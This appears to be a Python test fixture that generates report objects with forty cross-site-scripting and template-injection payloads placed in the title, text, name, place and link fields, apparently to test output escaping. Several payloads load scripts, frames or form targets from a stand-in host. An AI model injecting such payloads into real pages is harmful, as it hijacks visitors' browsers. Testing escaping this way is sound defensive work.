"""Reports that try to run something in the browser of whoever looks at them: forty payloads, each in five places."""

from collections.abc import Iterator
from datetime import date, timedelta

from detente.model import (
    Actor,
    ActorKind,
    DayInterval,
    Event,
    EventStatus,
    Place,
    Reading,
    Report,
    Span,
    Statement,
    StatementKind,
)

ELSEWHERE = "http://elsewhere.example"

PAYLOADS = (
    "<script>alert(1)</script>", f"<script src={ELSEWHERE}/a.js></script>", "<img src=x onerror=alert(1)>",
    f"<img src={ELSEWHERE}/a.png>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus tabindex=0 x='", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "<iframe src=javascript:alert(1)></iframe>", f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data={ELSEWHERE}></object>", f"<embed src={ELSEWHERE}>", f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import url({ELSEWHERE}/a.css)</style>", f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>", f"<form action={ELSEWHERE}><input name=q></form>",
    "<a href=javascript:alert(1)>click</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "{{ 7*7 }}{% raw %}", "{{ cycler.__init__.__globals__ }}",
    "${alert(1)}", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>", "\u2028<script>alert(1)</script>\u202e",
)

PLACES = ("title", "text", "name", "place", "link")
"""Where in a report a payload stands."""


def readings() -> Iterator[Reading]:
    """One report for each payload, which stands in every place of it."""
    for number, payload in enumerate(PAYLOADS):
        yield reading(payload, date(2018, 1, 1) + timedelta(number))


def reading(payload: str, published: date) -> Reading:
    """A report of a meeting that the payload plans with Kim, at the payload."""
    text = f"{payload} und Kim treffen sich morgen in {payload}. {payload} sagte: «{payload}»"
    report = Report.of(text, "de", published, title=payload, source=payload, url=payload)

    def span(words: str, after: int = 0) -> Span:
        start = text.index(words, after)
        return Span.of(text, start, start + len(words))

    ends = text.index(". ")
    actors = (Actor("a1", payload, (payload,), ActorKind.PERSON, None, None, (), (span(payload),)),
              Actor("a2", f"Kim {payload}", (), ActorKind.PERSON, "PRK", None, (), (span("Kim"),)))
    places = (Place("p1", payload, None, None, None, (span(payload, text.index(" in ")),)),)
    day = DayInterval.day(published + timedelta(1))
    event = Event("e1", "CONSULT", None, (), None, span("treffen"), Span.of(text, 0, ends), ("a1",), ("a2",), day, "p1",
                  EventStatus.PLANNED, (), span(payload), None)
    said = Statement("s1", StatementKind.DIRECT, "a1", span(payload, ends), (), span("sagte"),
                     (span(payload, text.index("«")),), None, None, ())
    return Reading(report, actors, (), places, (event,), (said,), notices=(payload,))
